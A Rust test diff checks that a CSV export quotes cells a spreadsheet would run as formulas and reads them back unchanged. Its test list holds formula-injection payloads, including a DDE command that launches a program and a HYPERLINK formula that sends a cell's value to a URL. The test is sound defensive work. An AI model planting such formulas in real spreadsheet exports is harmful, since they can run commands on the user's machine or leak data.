@@ -200,3 +200,60 @@ fn chart_escapes_and_scales() {
     assert!(svg.contains(">10</text>"));
     assert!(svg.contains("<polyline"));
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_get_a_quote() {
+    for hostile in [
+        "=HYPERLINK(\"http://x/?\"&D2,\"Dupont\")",
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "\r=1+1",
+        "-",
+        "+",
+        "+33 6 12",
+        "-3e5",
+        "1|=2",
+    ] {
+        let cell = csv_cell(hostile);
+        if hostile.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            assert_eq!(cell, format!("'{hostile}"), "{hostile:?}");
+            assert_eq!(csv_uncell(&cell), hostile);
+        } else {
+            assert_eq!(cell, hostile);
+        }
+    }
+    // Plain text, and numbers as lien writes them (changes, E.164 phones), stay as is.
+    for safe in [
+        "Dupont",
+        "",
+        "12",
+        "-3",
+        "+4.5",
+        "+33612345678",
+        "+33612345678|+33712345678",
+        "a=b",
+    ] {
+        assert_eq!(csv_cell(safe), safe);
+        assert_eq!(csv_uncell(safe), safe);
+    }
+    // A cell already beginning with `'` is text to a spreadsheet: written as it is.
+    assert_eq!(csv_cell("'=already"), "'=already");
+}
+
+#[test]
+fn a_totals_csv_with_negative_changes_and_a_quoted_cell_reads_back() {
+    let week = IsoWeek::parse("2026-W48").unwrap();
+    let (this, previous) = sample();
+    let mut t = week_totals(&ctx(week, week), &previous, &this);
+    t.campaign = "-hiver".into();
+    let csv = totals_csv(&t).unwrap();
+    assert!(csv.contains("\ncampaign;'-hiver\n"), "{csv}");
+    assert!(
+        csv.contains(";-"),
+        "a negative change, written as a number: {csv}"
+    );
+    assert_eq!(totals_from_csv(&csv).unwrap(), t);
+}
